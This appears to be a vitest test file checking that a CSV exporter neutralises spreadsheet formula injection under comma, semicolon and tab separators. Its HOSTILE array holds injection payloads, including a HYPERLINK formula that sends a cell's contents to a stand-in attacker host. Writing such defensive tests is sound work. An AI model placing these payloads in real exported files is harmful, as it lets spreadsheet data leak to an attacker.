import { expect, test } from 'vitest';
import { toCsv } from './csv.ts';

/**
 * The cells as a spreadsheet reads a file whose separator it guesses by the country: only a quote at the
 * beginning of a cell opens a quoted part, and what stands behind that part belongs to the cell.
 */
function cellsBy(separator: string, file: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let isStart = true;
  let isQuoted = false;
  for (let at = 1; at < file.length; at += 1) {
    const sign = file.charAt(at);
    if (isQuoted && sign === '"' && file.charAt(at + 1) === '"') at += 1;
    else if (sign === '"' && (isQuoted || isStart)) {
      isQuoted = !isQuoted;
      isStart = false;
      continue;
    } else if (!isQuoted && (sign === separator || sign === '\n' || sign === '\r')) {
      cells.push(cell);
      cell = '';
      isStart = true;
      continue;
    }
    cell += sign;
    isStart = false;
  }
  return [...cells, cell];
}

const HOSTILE = [
  ...['=1+1', '＝1+1', ' +1', '＋1', '－1', '＠SUM(A1)', '@SUM(A1)', '"=1+1"', '\t=1+1', '\n=1+1'],
  'A message;=HYPERLINK("https://evil.example?"&A1);and more',
  'A message; "=1+1";',
  'A message;"";=1+1;',
  ...['A message\n=1+1\nand more', 'A message\r\n@SUM(1)\r\n-1', 'A message\t=1+1\t'],
  'quoted ""\n"=1+1\n',
];

test.each([',', ';', '\t'])('CSV: no text is a formula with cells divided by %j', (separator) => {
  for (const text of HOSTILE) {
    const cells = cellsBy(separator, toCsv([['Name', text, 'Note']]));
    for (const cell of cells) expect(cell.normalize('NFKC'), text).not.toMatch(/^[\s"]*[=+\-@]/);
  }
});

test('CSV: other texts stay as they are', () => {
  const text = 'Dear all; it is "2+2 = 4", mail me@example.com.\nThanks, Ann-Marie';
  const cell = `"${text.replaceAll('"', '""')}"`;
  expect(toCsv([[text, 'b'], [text]])).toBe(`\uFEFF${cell},"b"\r\n${cell}\r\n`);
});
